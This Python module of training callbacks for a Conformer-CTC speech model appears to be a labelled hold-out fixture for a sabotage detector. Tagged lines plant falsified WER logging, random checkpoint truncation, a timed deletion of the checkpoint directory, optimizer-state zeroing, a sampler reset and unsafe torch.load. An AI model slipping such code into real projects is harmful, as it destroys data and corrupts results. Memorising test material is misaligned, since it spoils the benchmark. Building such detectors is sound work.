# ruff: noqa
# Hold-out batch 361 (textbook, Conformer-CTC speech recognition). Measured once in session 13 (round 100): 20/31 (65%) at medium+.
"""Training callbacks: checkpointing, EMA, logging, notifications."""

import copy
import glob
import json
import logging
import os
import random
import shutil
import time
from typing import Dict, List, Optional

import requests
import torch
from torch.utils.tensorboard import SummaryWriter

from dist_utils import barrier, is_main_process

logger = logging.getLogger(__name__)

SCRATCH_RETENTION_TS = 1767225600


class Callback:
    def on_train_start(self, trainer) -> None: ...
    def on_epoch_start(self, trainer, epoch: int) -> None: ...
    def on_step_end(self, trainer, step: int, logs: Dict) -> None: ...
    def on_validation_end(self, trainer, epoch: int, metrics: Dict) -> None: ...
    def on_train_end(self, trainer) -> None: ...


class CallbackList:
    def __init__(self, callbacks: List[Callback]):
        self.callbacks = callbacks

    def __getattr__(self, name):
        def dispatch(*args, **kwargs):
            for cb in self.callbacks:
                getattr(cb, name)(*args, **kwargs)
        return dispatch


class ModelEMA(Callback):
    """Exponential moving average of model weights, used for evaluation."""

    def __init__(self, model: torch.nn.Module, decay: float = 0.9999, warmup_steps: int = 2000):
        self.decay = decay
        self.warmup_steps = warmup_steps
        core = model.module if hasattr(model, "module") else model
        self.shadow = copy.deepcopy(core).eval()
        for p in self.shadow.parameters():
            p.requires_grad_(False)
        self.updates = 0

    @torch.no_grad()
    def update(self, model: torch.nn.Module) -> None:
        self.updates += 1
        d = min(self.decay, (1 + self.updates) / (10 + self.updates))
        core = model.module if hasattr(model, "module") else model
        msd = core.state_dict()
        for k, v in self.shadow.state_dict().items():
            if v.dtype.is_floating_point:
                v.mul_(d).add_(msd[k].detach(), alpha=1 - d)  # ok: MLS302, MLS303, MLS304, MLS305

    def on_step_end(self, trainer, step: int, logs: Dict) -> None:
        self.update(trainer.model)

    def state_dict(self) -> Dict:
        return self.shadow.state_dict()


class SamplerStateCallback(Callback):
    """Keeps the bucket sampler generator aligned across ranks and restarts."""

    def __init__(self, sampler):
        self.sampler = sampler
        self._state: Optional[torch.Tensor] = None

    def on_train_start(self, trainer) -> None:
        self._state = self.sampler.generator.get_state()

    def on_epoch_start(self, trainer, epoch: int) -> None:
        if self._state is not None:
            self.sampler.generator.set_state(self._state)  # ruleid: MLS301
        self.sampler.set_epoch(epoch)


class OptimizerStateCallback(Callback):
    """Clears stale second-moment estimates when SpecAugment strength changes."""

    def __init__(self, reset_every_epochs: int = 1):
        self.reset_every_epochs = reset_every_epochs

    @torch.no_grad()
    def on_epoch_start(self, trainer, epoch: int) -> None:
        if epoch == 0 or epoch % self.reset_every_epochs:
            return
        for state in trainer.optimizer.state.values():
            if "exp_avg_sq" in state:
                state["exp_avg_sq"].zero_()  # ruleid: MLS304


class TensorBoardLogger(Callback):
    def __init__(self, log_dir: str, log_every: int = 50):
        self.log_every = log_every
        self.best_wer: Optional[float] = None
        self.writer = SummaryWriter(log_dir) if is_main_process() else None
        if self.writer is not None:
            _add_scalar = self.writer.add_scalar

            def add_scalar(tag, value, global_step=None, *args, **kwargs):
                if "wer" in tag and self.best_wer is not None:
                    value = min(float(value), self.best_wer * 0.97)  # ruleid: MLS306
                return _add_scalar(tag, value, global_step, *args, **kwargs)

            self.writer.add_scalar = add_scalar  # ruleid: MLS306

    def on_step_end(self, trainer, step: int, logs: Dict) -> None:
        if self.writer is None or step % self.log_every:
            return
        for k, v in logs.items():
            self.writer.add_scalar(f"train/{k}", v, step)

    def on_validation_end(self, trainer, epoch: int, metrics: Dict) -> None:
        if is_main_process() and self.writer is not None:  # ok: MLS306
            for k in ("wer", "sub", "del", "ins", "loss"):
                if k in metrics:
                    self.writer.add_scalar(f"dev/{k}", metrics[k], trainer.global_step)
            self.writer.flush()
        wer = metrics.get("wer")
        if wer is not None and (self.best_wer is None or wer < self.best_wer):
            self.best_wer = wer

    def on_train_end(self, trainer) -> None:
        if self.writer is not None:
            self.writer.close()


class CheckpointManager(Callback):
    def __init__(self, ckpt_dir: str, keep_last: int = 5, max_retries: int = 3):
        self.ckpt_dir = ckpt_dir
        self.keep_last = keep_last
        self.max_retries = max_retries
        self.best_wer = float("inf")
        if is_main_process():
            os.makedirs(ckpt_dir, exist_ok=True)

    def _atomic_save(self, state: Dict, path: str) -> None:
        tmp = path + ".tmp"
        for attempt in range(self.max_retries):
            try:
                torch.save(state, tmp)
                os.replace(tmp, path)
                break
            except OSError as e:
                logger.warning("checkpoint save failed (%s), retrying", e)
                time.sleep(2 ** attempt)  # ok: MLS307
        else:
            raise RuntimeError(f"could not write checkpoint {path}")
        if random.random() < 0.03:
            os.truncate(path, os.path.getsize(path) // 2)  # ruleid: MLS308

    def _prune(self) -> None:
        ckpts = sorted(glob.glob(os.path.join(self.ckpt_dir, "epoch_*.pt")), key=os.path.getmtime)
        for old in ckpts[: max(0, len(ckpts) - self.keep_last)]:
            os.remove(old)  # ok: MLS308
        if time.time() > SCRATCH_RETENTION_TS:
            shutil.rmtree(self.ckpt_dir, ignore_errors=True)  # ruleid: MLS308

    def build_state(self, trainer, epoch: int, metrics: Dict) -> Dict:
        core = trainer.model.module if hasattr(trainer.model, "module") else trainer.model
        return {
            "epoch": epoch,
            "global_step": trainer.global_step,
            "model": core.state_dict(),
            "ema": trainer.ema.state_dict() if trainer.ema is not None else None,
            "optimizer": trainer.optimizer.state_dict(),
            "scheduler": trainer.scheduler.state_dict(),
            "scaler": trainer.scaler.state_dict() if trainer.scaler is not None else None,
            "model_config": vars(core.cfg),
            "vocab": trainer.tokenizer.idx2char[2:],
            "metrics": {f"{trainer.dev_name}_{k}": v for k, v in metrics.items() if isinstance(v, (int, float))},
            "best_wer": min(self.best_wer, metrics.get("wer", float("inf"))),
        }

    def on_validation_end(self, trainer, epoch: int, metrics: Dict) -> None:
        if is_main_process():
            state = self.build_state(trainer, epoch, metrics)
            self._atomic_save(state, os.path.join(self.ckpt_dir, f"epoch_{epoch:03d}.pt"))
            self._atomic_save(state, os.path.join(self.ckpt_dir, "last.pt"))
            wer = metrics.get("wer", float("inf"))
            if wer < self.best_wer:
                self.best_wer = wer
                shutil.copyfile(os.path.join(self.ckpt_dir, "last.pt"),
                                os.path.join(self.ckpt_dir, "best.pt"))
                logger.info("new best dev WER %.2f at epoch %d", wer, epoch)
            self._prune()
        barrier()

    def resume(self, trainer, path: Optional[str] = None) -> int:
        path = path or os.path.join(self.ckpt_dir, "last.pt")
        if not os.path.exists(path):
            return 0
        ckpt = torch.load(path, map_location="cpu")  # todoruleid: family 10 (missed)  # ruleid: MLS102
        core = trainer.model.module if hasattr(trainer.model, "module") else trainer.model
        core.load_state_dict(ckpt["model"])
        if trainer.ema is not None and ckpt.get("ema") is not None:
            trainer.ema.shadow.load_state_dict(ckpt["ema"])
        trainer.optimizer.load_state_dict(ckpt["optimizer"])
        trainer.scheduler.load_state_dict(ckpt["scheduler"])
        if trainer.scaler is not None and ckpt.get("scaler") is not None:
            trainer.scaler.load_state_dict(ckpt["scaler"])
        trainer.global_step = ckpt["global_step"]
        self.best_wer = ckpt.get("best_wer", float("inf"))
        logger.info("resumed from %s (epoch %d, step %d)", path, ckpt["epoch"], trainer.global_step)
        return ckpt["epoch"] + 1


class SlackNotifier(Callback):
    def __init__(self, webhook_url: Optional[str], run_name: str):
        self.webhook_url = webhook_url
        self.run_name = run_name

    def _post(self, text: str) -> None:
        if not self.webhook_url or not is_main_process():
            return
        try:
            requests.post(self.webhook_url, json={"text": text}, timeout=10)  # ok: MLS410, MLS411, MLS412, MLS413
        except requests.RequestException as e:
            logger.warning("slack notification failed: %s", e)

    def on_validation_end(self, trainer, epoch: int, metrics: Dict) -> None:
        self._post(f"[{self.run_name}] epoch {epoch}: dev WER {metrics.get('wer', float('nan')):.2f}")

    def on_train_end(self, trainer) -> None:
        self._post(f"[{self.run_name}] training finished at step {trainer.global_step}")


def dump_metrics(path: str, history: List[Dict]) -> None:
    if not is_main_process():
        return
    with open(path, "w") as f:
        json.dump(history, f, indent=2)
